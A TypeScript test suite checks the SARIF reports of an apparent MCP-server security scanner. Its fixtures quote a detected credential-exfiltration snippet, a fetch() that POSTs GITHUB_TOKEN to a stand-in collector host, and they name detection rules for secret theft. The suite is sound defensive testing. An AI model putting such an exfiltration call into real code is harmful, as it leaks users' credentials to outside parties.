// SARIF for GitHub code scanning: validated by ajv against the 2.1.0 schema and
// by the SARIF Multitool (SARIF and GitHub rules), on a hand-built result with
// flows, related locations and diagnostics, and on real corpus scans.
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { test } from "node:test";
import { locationOf, walk } from "../analyzer/parse/ast.js";
import { parseFile } from "../analyzer/parse/index.js";
import { scan } from "../analyzer/scan.js";
import { attachSnippets } from "../analyzer/snippets.js";
import type { Diagnostic, Finding, Location } from "../analyzer/types.js";
import { TOOL_VERSION } from "../analyzer/version.js";
import { automationId, escapeSarifText, FINGERPRINT_KEY, renderSarif } from "../reports/sarif.js";
import { ALL_RULES } from "../rules/index.js";
import { CORPUS_DIR } from "./support/corpus.js";
import { fixtureResult, fixtureRules } from "./support/report-fixture.js";
import { multitoolBinary, multitoolValidate, sarifSchemaErrors } from "./support/sarif-validate.js";

type Json = { [key: string]: unknown };
const obj = (v: unknown): Json => v as Json;
const arr = (v: unknown): Json[] => v as Json[];

function runOf(log: Json): Json {
  return arr(log.runs)[0];
}

async function corpusSarif(name: string, category?: string): Promise<Json> {
  return renderSarif(await scan(path.join(CORPUS_DIR, name)), { category });
}

test("sarif: the fixture and real corpus scans validate against the SARIF 2.1.0 schema with zero errors", async () => {
  const logs = {
    fixture: renderSarif(fixtureResult(), { rules: fixtureRules() }),
    downloader: await corpusSarif("install-script-postinstall-downloader"),
    weather: await corpusSarif("example-weather-server"),
  };
  for (const [name, log] of Object.entries(logs)) assert.deepEqual(sarifSchemaErrors(log), [], `${name} is not valid SARIF 2.1.0`);
  // The validator is not a rubber stamp: a region without startLine type is caught.
  const broken = structuredClone(logs.fixture) as Json;
  obj(obj(arr(arr(runOf(broken).results)[0].locations)[0].physicalLocation).region).startLine = "eight";
  assert.notDeepEqual(sarifSchemaErrors(broken), []);
});

test("sarif: the SARIF Multitool (Sarif;Gh rules) reports no error and no warning", async (t) => {
  const bin = multitoolBinary();
  if ("missing" in bin) {
    t.skip(`SARIF Multitool unavailable: ${bin.missing}`);
    return;
  }
  const logs = {
    fixture: renderSarif(fixtureResult(), { rules: fixtureRules(), category: "mcp/fixture" }),
    downloader: await corpusSarif("install-script-postinstall-downloader"),
    weather: await corpusSarif("example-weather-server", "servers/weather"),
  };
  const report = multitoolValidate(bin.path, logs);
  for (const n of report.notes) t.diagnostic(n);
  assert.deepEqual(report.problems, []);
  // It does find problems: a result whose rule is not described breaks a GitHub rule.
  const bad = structuredClone(logs.fixture) as Json;
  delete obj(obj(runOf(bad).tool).driver).rules;
  for (const r of arr(runOf(bad).results)) delete r.ruleIndex;
  const badReport = multitoolValidate(bin.path, { bad });
  assert.ok(badReport.problems.length > 0, "the Multitool flagged nothing in a log without rules");
});

test("sarif: driver and rule descriptors carry what code scanning shows", () => {
  const log = renderSarif(fixtureResult(), { rules: fixtureRules() });
  const driver = obj(obj(runOf(log).tool).driver);
  assert.equal(driver.name, "mcp-warden");
  assert.equal(driver.semanticVersion, TOOL_VERSION);
  assert.match(String(driver.informationUri), /^https:\/\//);
  const rules = arr(driver.rules);
  assert.deepEqual(
    rules.map((r) => r.id),
    fixtureRules().map((m) => m.id),
  );
  const exfil = rules.find((r) => r.id === "credential-exfiltration")!;
  assert.equal(exfil.name, "CredentialExfiltration");
  assert.equal(obj(exfil.shortDescription).text, "A credential is sent to a destination that is not its own service.");
  assert.deepEqual(obj(exfil.defaultConfiguration), { level: "error" });
  assert.deepEqual(obj(exfil.properties), {
    tags: ["security", "malicious-server", "external/cwe/cwe-200", "external/cwe/cwe-522"],
    precision: "high",
    "security-severity": "9.5",
  });
  const help = obj(exfil.help);
  assert.match(String(help.markdown), /\*\*Why it matters\.\*\*/);
  assert.match(String(help.markdown), /\*\*Threat: Malicious server\.\*\*/);
  assert.match(String(help.markdown), /\[CWE-522\]\(https:\/\/cwe\.mitre\.org\/data\/definitions\/522\.html\)/);
  assert.match(String(help.markdown), /```js\n/);
  // The plain-text help keeps the words and drops the marks.
  assert.ok(!String(help.text).includes("**"));
  assert.match(String(help.text), /Why it matters\. An MCP server runs with the user.s environment/);
  assert.match(String(help.text), /CWE-522 \(https:\/\/cwe\.mitre\.org/);
  // Every rule of the real catalog has help with the why, the fix and the threat.
  for (const rule of ALL_RULES) {
    const d = arr(obj(obj(runOf(renderSarif(fixtureResult())).tool).driver).rules).find((r) => r.id === rule.meta.id)!;
    assert.match(String(obj(d.help).markdown), /Why it matters/i, `${rule.meta.id} help says why it matters`);
    assert.match(String(obj(d.help).markdown), /How to fix/i, `${rule.meta.id} help says how to fix`);
    assert.match(String(obj(d.help).markdown), /\*\*Threat: /, `${rule.meta.id} help names the threat`);
  }
});

test("sarif: a flow becomes a code flow, its source and related places are linked from the message", () => {
  const run = runOf(renderSarif(fixtureResult(), { rules: fixtureRules() }));
  const results = arr(run.results);
  const exfil = results[0];
  assert.equal(exfil.ruleId, "credential-exfiltration");
  assert.equal(exfil.ruleIndex, fixtureRules().findIndex((m) => m.id === "credential-exfiltration"));
  assert.equal(exfil.level, "error");
  assert.equal(
    obj(exfil.message).text,
    "GITHUB_TOKEN \\[env\\] is sent to https://collector.example.net. Source: [GITHUB_TOKEN read](1). See also: [destination https://collector.example.net/x](2). Fix: Send GITHUB_TOKEN only to api.github.com, or remove the request.",
  );
  const related = arr(exfil.relatedLocations);
  assert.deepEqual(
    related.map((r) => [r.id, obj(r.message).text, obj(obj(r.physicalLocation).region).startLine]),
    [
      [1, "GITHUB_TOKEN read", 3],
      [2, "destination https://collector.example.net/x", 8],
    ],
  );
  const primary = obj(arr(exfil.locations)[0].physicalLocation);
  assert.deepEqual(primary.artifactLocation, { uri: "src/index.ts", uriBaseId: "%SRCROOT%" });
  assert.deepEqual(obj(primary.region), {
    startLine: 8,
    startColumn: 9,
    endLine: 8,
    endColumn: 75,
    snippet: { text: 'fetch("https://collector.example.net/x", { method: "POST", body })' },
  });
  assert.deepEqual(obj(primary.contextRegion).startLine, 6);
  assert.deepEqual(obj(primary.contextRegion).endLine, 9);
  // The secret on line 7 is masked in every snippet.
  const all = JSON.stringify(run);
  assert.ok(!all.includes("ghp_abcdefghijklmnopqrstuvwxyz0123456789"), "a secret was printed in full");
  assert.match(all, /ghp_ab…\(40 chars\)/);

  const flow = arr(arr(arr(exfil.codeFlows)[0].threadFlows)[0].locations);
  assert.deepEqual(
    flow.map((l) => [obj(obj(l.location).message).text, obj(obj(obj(l.location).physicalLocation).region).startLine, l.executionOrder]),
    [
      ["GITHUB_TOKEN read", 3, 1],
      ["stored in config.auth", 4, 2],
      ["serialized into body", 7, 3],
      ["sent by fetch()", 8, 4],
    ],
  );
  assert.deepEqual(exfil.partialFingerprints, { [FINGERPRINT_KEY]: "0f3c9a1d2b4e5f60718293a4b5c6d7e8" });
  assert.deepEqual(obj(exfil.properties), {
    credential: "GITHUB_TOKEN",
    destination: "https://collector.example.net",
    fix: "Send GITHUB_TOKEN only to api.github.com, or remove the request.",
    severity: "critical",
    "security-severity": "9.5",
  });
  // A finding without a path has no code flow and no related locations.
  const install = results.find((r) => r.ruleId === "install-script")!;
  assert.equal(install.codeFlows, undefined);
  assert.equal(install.relatedLocations, undefined);
  assert.equal(install.level, "warning");
  assert.equal(obj(install.properties).severity, "medium");
});

test("sarif: URIs are relative and percent-encoded; columns are UTF-16 code units", () => {
  const run = runOf(renderSarif(fixtureResult(), { rules: fixtureRules() }));
  assert.equal(run.columnKind, "utf16CodeUnits");
  const odd = arr(run.results).find((r) => r.ruleId === "secret-in-url")!;
  const loc = obj(arr(odd.locations)[0].physicalLocation);
  assert.deepEqual(loc.artifactLocation, { uri: "lib/odd%20name%20%231%20%F0%9F%98%80.js", uriBaseId: "%SRCROOT%" });
  // Two surrogate pairs before `fetch` count four code units: column 21 (code points would give 19).
  assert.equal(obj(loc.region).startColumn, 21);
  assert.deepEqual(obj(obj(loc.region).snippet), { text: 'fetch(target + "?k=" + key)' });
  // Diagnostics become notifications, with their file.
  const notes = arr(arr(run.invocations)[0].toolExecutionNotifications);
  assert.deepEqual(
    notes.map((n) => [n.level, obj(n.descriptor).id, obj(obj(arr(n.locations)[0].physicalLocation).artifactLocation).uri]),
    [
      ["warning", "parse-error", "dist/broken.js"],
      ["note", "file-too-large", "dist/huge%20bundle.js"],
    ],
  );
  // A prefix places a subfolder scan inside its repository.
  const prefixed = runOf(renderSarif(fixtureResult(), { rules: fixtureRules(), uriPrefix: "./servers/my server/" }));
  assert.equal(obj(obj(arr(arr(prefixed.results)[0].locations)[0].physicalLocation).artifactLocation).uri, "servers/my%20server/src/index.ts");
});

test("sarif: parser columns are UTF-16 code units for JS and TS, and snippets slice by them", () => {
  const line = 'const s = "𝒳😀"; /* ✓ */ eval(s + "😀");';
  for (const file of ["a.js", "a.ts"]) {
    const diagnostics: Diagnostic[] = [];
    const mod = parseFile({ path: file, bytes: Buffer.from(`${line}\n`) }, diagnostics);
    assert.ok(mod, `${file} parsed: ${JSON.stringify(diagnostics)}`);
    let call: Location | undefined;
    walk(mod.ast, {
      enter(node) {
        if (node.type === "CallExpression") call = locationOf(file, node);
      },
    });
    assert.ok(call);
    assert.equal(call.column, line.indexOf("eval(") + 1, `${file}: start column counts UTF-16 code units`);
    assert.equal(call.endColumn, line.lastIndexOf(";") + 1, `${file}: end column is exclusive, in UTF-16 code units`);
    const finding: Finding = { ruleId: "code-injection", severity: "high", message: "m", location: call, fingerprint: "f" };
    attachSnippets([finding], () => mod.text);
    assert.equal(finding.location.regionText, 'eval(s + "😀")');
  }
});

test("sarif: fingerprints survive unrelated edits; the category goes into automationDetails", async () => {
  const dir = mkdtempSync(path.join(tmpdir(), "mcp-warden-fp-"));
  try {
    const manifest = (extra: string) => `{\n  "name": "fp-demo",\n${extra}  "version": "1.0.0",\n  "scripts": { "postinstall": "node setup.js" }\n}\n`;
    writeFileSync(path.join(dir, "package.json"), manifest(""));
    writeFileSync(path.join(dir, "setup.js"), "console.log('hi');\n");
    const before = await scan(dir);
    writeFileSync(path.join(dir, "package.json"), manifest('  "description": "now with a description",\n  "keywords": ["mcp"],\n'));
    const after = await scan(dir);
    const fp = (r: typeof before) => r.findings.map((f) => [f.ruleId, f.fingerprint, f.location.line]);
    assert.equal(before.findings.length, 1);
    assert.notEqual(fp(before)[0][2], fp(after)[0][2], "the finding moved");
    assert.equal(fp(before)[0][1], fp(after)[0][1], "its fingerprint did not");
    const log = renderSarif(after, { category: "servers/fp-demo" });
    assert.deepEqual(runOf(log).automationDetails, { id: "servers/fp-demo/" });
    assert.deepEqual(obj(runOf(log).properties), { target: dir, targetKind: "directory", package: { name: "fp-demo", version: "1.0.0" } });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("sarif: npm scans carry the spec and package facts in run properties", () => {
  const run = runOf(renderSarif(fixtureResult(), { rules: fixtureRules() }));
  assert.deepEqual(obj(run.properties), {
    target: "fixture-server@1.0.0",
    targetKind: "npm",
    spec: "fixture-server@1.0.0",
    package: { name: "fixture-server", version: "1.0.0", integrity: fixtureResult().package.integrity },
  });
  assert.deepEqual(runOf(renderSarif(fixtureResult())).automationDetails, { id: "mcp-warden/" });
});

test("sarif: helpers escape links and normalize categories", () => {
  assert.equal(escapeSarifText("a [b](1) c"), "a \\[b\\](1) c");
  assert.equal(automationId("mcp/servers//"), "mcp/servers/");
  assert.equal(automationId("  "), "mcp-warden/");
});
